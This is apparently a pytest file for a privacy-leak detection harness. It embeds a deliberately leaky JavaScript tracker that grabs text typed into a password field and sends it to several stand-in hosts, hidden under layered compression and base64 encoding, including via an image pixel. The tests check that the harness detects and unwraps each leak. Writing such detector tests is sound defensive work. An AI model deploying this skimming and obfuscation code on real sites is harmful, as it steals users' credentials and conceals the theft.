"""Layers at any depth, alignment and offset, end to end: our own leaky tracker, written for issue 14, wraps the
typed password the ways real trackers do (a Sentry-like envelope with a zlib'd item after its JSON header lines,
six layers deep, a length-prefixed record of raw deflate, unpadded base64 of raw deflate glued to an id in an
image URL), in each browser. Every one of them must be flagged, with the chain of layers that hid it."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from demo_flows import SITE, login

from harness.cli import ExitStatus, main

LOGIN = login(wait_ms=600)

# One tracker for the four families: each payload goes to a host of its own, so that each finding names it.
DEEP_TRACKER = """
(() => {
  const utf8 = new TextEncoder();
  const squeeze = async (format, bytes) => new Uint8Array(await new Response(
    new Blob([bytes]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer());
  const b64 = (bytes, urlSafe) => {
    let text = '';
    for (const byte of bytes) text += String.fromCharCode(byte);
    const encoded = btoa(text);
    return urlSafe ? encoded.replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '') : encoded;
  };
  const joined = (...parts) => {
    const out = new Uint8Array(parts.reduce((size, part) => size + part.length, 0));
    let at = 0;
    for (const part of parts) { out.set(part, at); at += part.length; }
    return out;
  };
  const leak = async (value) => {
    const event = utf8.encode(JSON.stringify([{type: 3, data: {source: 5, text: value, id: 9}, timestamp: Date.now()}]));
    // A Sentry-like envelope: header lines, then a recording item compressed with zlib.
    const recording = await squeeze('deflate', event);
    const lines = [{event_id: 'a'.repeat(32), sent_at: new Date().toISOString()}, {type: 'replay_event'},
      {replay_id: 'b'.repeat(32)}, {type: 'replay_recording', length: recording.length + 17}];
    const head = utf8.encode(lines.map((line) => JSON.stringify(line)).join('\\n') + '\\n{"segment_id":0}\\n');
    fetch('https://o1.ingest.sentry.test/api/1/envelope/', {method: 'POST', body: joined(head, recording), keepalive: true});
    // Six layers: base64(gzip(json(base64url(deflate-raw(base64(event)))))).
    const inner = b64(await squeeze('deflate-raw', utf8.encode(b64(event))), true);
    const deep = b64(await squeeze('gzip', utf8.encode(JSON.stringify({d: inner}))));
    fetch('https://deep.test/collect', {method: 'POST', body: deep, keepalive: true});
    // A 4-byte big-endian length, then a raw deflate record (no magic number), then another record.
    const raw = await squeeze('deflate-raw', event);
    const length = new Uint8Array(4);
    new DataView(length.buffer).setUint32(0, raw.length);
    fetch('https://frames.test/r', {method: 'POST', body: joined(length, raw, new Uint8Array([0, 0, 0, 2, 7, 7])), keepalive: true});
    // Unpadded URL-safe base64 of raw deflate, glued to an id: at no 4-character boundary of its run.
    new Image().src = 'https://pixel.test/p.gif?d=id' + b64(raw, true);
  };
  let timer;
  addEventListener('input', (e) => {
    if (e.target.id !== 'password') return;
    clearTimeout(timer);
    const value = e.target.value;
    timer = setTimeout(() => leak(value), 100);
  }, true);
})();
"""

# (destination, channel, what the encoding must hold): one per family.
EXPECTED = [
    ("https://o1.ingest.sentry.test/api/1/envelope/", "fetch", "zlib"),
    ("https://deep.test/collect", "fetch", "base64 → gzip → base64 → deflate → base64"),
    ("https://frames.test/r", "fetch", "length-prefixed → deflate"),
    ("https://pixel.test/p.gif", "image", "base64 → deflate"),
]


@pytest.mark.parametrize("engine", ["chromium", "firefox"])
def test_each_layer_family_is_peeled_in_a_real_browser(tmp_path: Path, engine: str) -> None:
    scenario = tmp_path / "login.yaml"
    scenario.write_text(LOGIN)
    snippet = tmp_path / "deep.js"
    snippet.write_text(DEEP_TRACKER)
    out, err = io.StringIO(), io.StringIO()
    status = main(
        ["run", str(scenario), "--site", str(SITE), "--snippet", str(snippet), "--report", str(tmp_path / "r"),
         "--browser", engine],
        out, err,
    )
    (run,) = json.loads((tmp_path / "r" / "results.json").read_text())["runs"]
    assert status == ExitStatus.CHECK_FAILED, run
    found = [(f["url"], f["channel"], f["encoding"]) for f in run["findings"] if f["field"] == "#password"]
    for url, channel, encoding in EXPECTED:
        assert any(u == url and c == channel and encoding in e for u, c, e in found), (url, found)
